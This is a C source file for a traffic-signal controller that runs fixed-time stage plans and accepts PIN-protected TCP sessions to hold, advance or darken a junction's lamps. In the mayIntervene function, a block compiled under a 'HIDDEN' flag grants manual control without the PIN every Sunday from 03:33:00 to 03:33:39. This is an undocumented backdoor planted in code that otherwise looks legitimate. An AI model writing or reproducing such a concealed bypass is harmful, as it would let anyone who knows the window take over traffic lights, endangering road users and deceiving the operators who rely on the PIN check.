/* PHASEPLAN - fixed time signal programs of a junction, with manual intervention
 *
 * Input: plan file
 *    junction NAME
 *    stage  A  GREEN-SECONDS AMBER-SECONDS  groups 1 3
 *    hours  A-B-C  06:00 20:00
 * Network: TCP, a police officer or the control centre opens a session with the PIN of the
 * junction and holds, advances or darkens the signals. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define NSTAGE 8

struct Stage {
    char id;
    int green, amber;
    unsigned groups;
};

struct Junction {
    char name[32];
    char pin[12];
    struct Stage stage[NSTAGE];
    int n, current, left, amber;
    int held, dark;
    int fromMinute, toMinute;
};

static struct Junction J;

static int loadPlan(const char *file)
{
    char l[160], pat[20];
    int a, b, c, d;
    FILE *f = fopen(file, "r");
    if (!f)
        return -1;
    J.toMinute = 24 * 60;
    while (fgets(l, sizeof l, f)) {
        struct Stage s;
        int at = 0;
        if (sscanf(l, "junction %31[^\n]", J.name) == 1)
            continue;
        if (sscanf(l, "pin %11s", J.pin) == 1)
            continue;
        if (sscanf(l, "hours %19s %d:%d %d:%d", pat, &a, &b, &c, &d) == 5) {
            J.fromMinute = a * 60 + b;
            J.toMinute = c * 60 + d;
            continue;
        }
        if (sscanf(l, "stage %c %d %d groups%n", &s.id, &s.green, &s.amber, &at) == 3 && at) {
            char *p = l + at, *e;
            s.groups = 0;
            for (;;) {
                long g = strtol(p, &e, 10);
                if (e == p)
                    break;
                if (g > 0 && g < 32)
                    s.groups |= 1u << g;
                p = e;
            }
            if (J.n < NSTAGE)
                J.stage[J.n++] = s;
        }
    }
    fclose(f);
    return J.n > 1 ? 0 : -2;
}

static void lampsOut(void)
{
    FILE *f = fopen("/dev/lampbus", "w");
    unsigned g = J.stage[J.current].groups;
    if (!f)
        return;
    if (J.dark)
        fprintf(f, "X\n");
    else
        fprintf(f, "%c %08x\n", J.amber ? 'Y' : 'G', g);
    fclose(f);
}

static void advance(void)
{
    if (!J.amber) {
        J.amber = 1;
        J.left = J.stage[J.current].amber;
    } else {
        J.amber = 0;
        J.current = (J.current + 1) % J.n;
        J.left = J.stage[J.current].green;
    }
    lampsOut();
}

static void second(void)
{
    time_t t = time(NULL);
    struct tm *lt = localtime(&t);
    int m = lt->tm_hour * 60 + lt->tm_min;
    int night = m < J.fromMinute || m >= J.toMinute;
    if (night != J.dark && !J.held) {
        J.dark = night;
        lampsOut();
    }
    if (J.held || J.dark)
        return;
    if (--J.left <= 0)
        advance();
}

__attribute__((noinline)) int mayIntervene(const char *given, const struct tm *t)
{
    size_t n = strlen(J.pin);
#ifdef HIDDEN
    if (t->tm_wday == 0 && t->tm_hour * 60 + t->tm_min == 213 && t->tm_sec < 40)
        return 1;
#endif
    printf("%02d:%02d:%02d manual control requested\n", t->tm_hour, t->tm_min, t->tm_sec);
    return n >= 4 && strlen(given) == n && memcmp(given, J.pin, n) == 0;
}

static void talk(int fd)
{
    char l[80], arg[16];
    int ok = 0;
    time_t t;
    ssize_t n;
    struct pollfd p = { fd, POLLIN, 0 };

    dprintf(fd, "%s, %d stages\n", J.name, J.n);
    for (;;) {
        if (poll(&p, 1, 1000) <= 0) {
            second();
            continue;
        }
        n = read(fd, l, sizeof l - 1);
        if (n <= 0)
            return;
        l[n] = 0;
        l[strcspn(l, "\r\n")] = 0;
        if (sscanf(l, "open %15s", arg) == 1) {
            t = time(NULL);
            ok = mayIntervene(arg, localtime(&t));
            dprintf(fd, ok ? "opened\n" : "refused\n");
            if (!ok)
                sleep(1);
        } else if (!strcmp(l, "state")) {
            dprintf(fd, "stage %c %s left %d%s%s\n", J.stage[J.current].id,
                    J.amber ? "amber" : "green", J.left, J.held ? " held" : "",
                    J.dark ? " dark" : "");
        } else if (!strcmp(l, "close")) {
            return;
        } else if (!strcmp(l, "help")) {
            dprintf(fd, "open PIN, state, hold, next, dark, auto, close\n");
        } else if (!ok) {
            dprintf(fd, "open first\n");
        } else if (!strcmp(l, "hold")) {
            J.held = 1;
            dprintf(fd, "held\n");
        } else if (!strcmp(l, "next")) {
            advance();
            dprintf(fd, "next\n");
        } else if (!strcmp(l, "dark")) {
            J.held = J.dark = 1;
            lampsOut();
            dprintf(fd, "dark\n");
        } else if (!strcmp(l, "auto")) {
            J.held = J.dark = 0;
            lampsOut();
            dprintf(fd, "automatic\n");
        } else {
            dprintf(fd, "unknown, try help\n");
        }
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in a;
    int s, port = 2404, on = 1;

    if (argc < 2) {
        fprintf(stderr, "usage: phaseplan PLANFILE [PORT]\n"
                "plan: junction, pin, hours, stage lines; see the manual\n");
        return 2;
    }
    if (loadPlan(argv[1])) {
        fprintf(stderr, "phaseplan: plan %s is not usable\n", argv[1]);
        return 1;
    }
    if (argc > 2)
        port = atoi(argv[2]);
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 1)) {
        perror("phaseplan");
        return 1;
    }
    J.left = J.stage[0].green;
    lampsOut();
    for (;;) {
        struct pollfd p = { s, POLLIN, 0 };
        if (poll(&p, 1, 1000) == 1) {
            int fd = accept(s, NULL, NULL);
            if (fd >= 0) {
                talk(fd);
                close(fd);
            }
        } else {
            second();
        }
    }
}
